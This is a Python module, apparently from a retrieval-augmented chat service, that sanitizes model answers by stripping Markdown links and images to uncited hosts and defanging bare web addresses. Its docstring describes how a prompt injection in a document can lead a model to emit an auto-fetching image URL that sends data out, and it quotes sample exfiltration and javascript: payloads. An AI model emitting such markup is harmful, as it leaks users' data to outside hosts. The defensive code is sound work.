"""Answer text made safe for the Markdown renderers of chat frontends.

A document can carry a prompt injection, and a model that follows it can write Markdown that a
chat window acts on: an image it fetches at once (`![x](http://host/log?d=...)` sends data out
without a click), a `javascript:` link, an address that carries data out when clicked.
Extractive answers quote documents, which may hold the same markup. `AnswerLoop.answer` passes
every final answer text through `sanitize_answer` (the one place: POST /rag, the chat endpoint
plain and streamed, `sightline ask` all read that text). Promises:

- An image or link survives only when its URL is http(s) on the host of a cited source's own
  URL (`Citation.url`); any other keeps its text ("[text](url)" -> "text", an image's
  alt text plus "(image removed)"). So javascript:, data:, vbscript: and relative URLs never
  survive. Reference definitions ("[x]: url") are escaped, so reference links stay text.
- A bare web address a model wrote on another host is defanged ("hxxp://", "www[.]") so no
  renderer autolinks it. Text that quotes the evidence (`quotes_documents`: an extractive
  answer) keeps its addresses as the documents write them.
- Code (a fenced block, a code span) is kept as written, addresses included: a renderer shows
  it as text, so nothing in it is live (server/markdown_code.py checks that with a CommonMark
  parser and rewrites the code too where a renderer could read it otherwise).
- HTML is left as written: the text is JSON text, not HTML. Where a reply is rendered, HTML is
  shown as text there (server/markdown.py for the chat reply).
- Citation markers ([1], [1][2]) and all other text are unchanged.
"""

from __future__ import annotations

import functools
import re
from collections.abc import Iterable
from typing import Any
from urllib.parse import urlsplit

from .markdown_code import WEB_ADDRESS, rewrite_outside_code

SAFE_SCHEMES = ("http", "https")
IMAGE_REMOVED = "(image removed)"
# [text](dest "title") and ![alt](dest): dest may hold one level of parentheses (javascript:alert(1))
_INLINE = re.compile(r"(!?)\[([^\[\]\n]*)\]\(\s*<?((?:[^\s()<>]|\([^\s()]*\))*)>?"
                     r"(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^()\n]*\)))?\s*\)")
_REFERENCE_DEFINITION = re.compile(r"^( {0,3})\[(?=[^\]\n]+\]:)", re.MULTILINE)
_LINK_OPENERS = re.compile(r"!\[|\]\(")
_MARKER_LABEL = re.compile(r"^\s*\d+(?:\s*,\s*\d+)*\s*$")  # a citation marker's inside: "1", "1, 2"
_SLOT = "\x00{}\x00"
_SLOTS = re.compile("\x00(\\d+)\x00")


def allowed_hosts(urls: Iterable[str | None]) -> frozenset[str]:
    """The lower-case hosts of the http(s) URLs given (a cited source's own URL), others skipped."""
    hosts = set()
    for url in urls:
        parts = _split(url or "")
        if parts is not None and parts.scheme in SAFE_SCHEMES and parts.hostname:
            hosts.add(parts.hostname.lower())
    return frozenset(hosts)


def sanitize_answer(text: str, hosts: frozenset[str] = frozenset(), quotes_documents: bool = False) -> str:
    """The text with links, images and web addresses neutralised as the module docstring promises.

    Args:
        text: an answer (a model's reply, quoted documents, or a refusal).
        hosts: the hosts links and images may point at (`allowed_hosts` of the cited sources).
        quotes_documents: the text quotes the evidence (an extractive answer or refusal), so its
            bare web addresses are the documents' own and stay as written.
    """
    return rewrite_outside_code(text, functools.partial(_neutralise, hosts=hosts, defang=not quotes_documents))


def _neutralise(text: str, hosts: frozenset[str], defang: bool) -> str:
    """Links and images to other hosts reduced to their text, reference definitions escaped and,
    with `defang`, bare web addresses on other hosts defanged."""
    kept: list[str] = []

    def inline(match: re.Match) -> str:
        image, label, url = match.group(1), match.group(2), match.group(3)
        if _allowed(url, hosts):
            kept.append(match.group(0))
            return _SLOT.format(len(kept) - 1)
        if image:
            return f"{label} {IMAGE_REMOVED}".strip()
        return f"[{label}]" if _MARKER_LABEL.match(label) else label

    out = _INLINE.sub(inline, text)
    out = _REFERENCE_DEFINITION.sub(lambda m: m.group(1) + "\\[", out)
    out = _LINK_OPENERS.sub(lambda m: "!\\[" if m.group(0) == "![" else "]\\(", out)
    if defang:
        out = WEB_ADDRESS.sub(lambda m: m.group(0) if _allowed(m.group(0), hosts) else _defang(m.group(0)), out)
    return _SLOTS.sub(lambda m: kept[int(m.group(1))], out)


def sanitize_value(value: Any, hosts: frozenset[str] = frozenset()) -> Any:
    """A JSON-like value with every string passed through `sanitize_answer` (the trace parts
    that quote a model's rejected claims: validation details, retry hints, dropped claims)."""
    if isinstance(value, str):
        return sanitize_answer(value, hosts)
    if isinstance(value, dict):
        return {k: sanitize_value(v, hosts) for k, v in value.items()}
    if isinstance(value, list):
        return [sanitize_value(v, hosts) for v in value]
    return value


def _split(url: str):
    """urlsplit of the URL, None when it cannot be read (an invalid port, brackets)."""
    try:
        parts = urlsplit(url.strip())
        parts.port  # noqa: B018 - raises ValueError for an invalid port
        return parts
    except ValueError:
        return None


def _allowed(url: str, hosts: frozenset[str]) -> bool:
    """True for an http(s) URL on one of `hosts` (a bare "www." address counts as http)."""
    if url.lower().startswith("www."):
        url = "http://" + url
    parts = _split(url)
    return (parts is not None and parts.scheme.lower() in SAFE_SCHEMES and parts.hostname is not None
            and parts.hostname.lower() in hosts)


def _defang(url: str) -> str:
    """A web address no renderer autolinks: "hxxp://host", "www[.]host"."""
    url = re.sub(r"^(h)tt(ps?)(?=://)", r"\1xx\2", url, flags=re.IGNORECASE)
    url = re.sub(r"^ftp(?=://)", "fxp", url, flags=re.IGNORECASE)
    return re.sub(r"(?i)(?<![\w.])www\.", "www[.]", url)
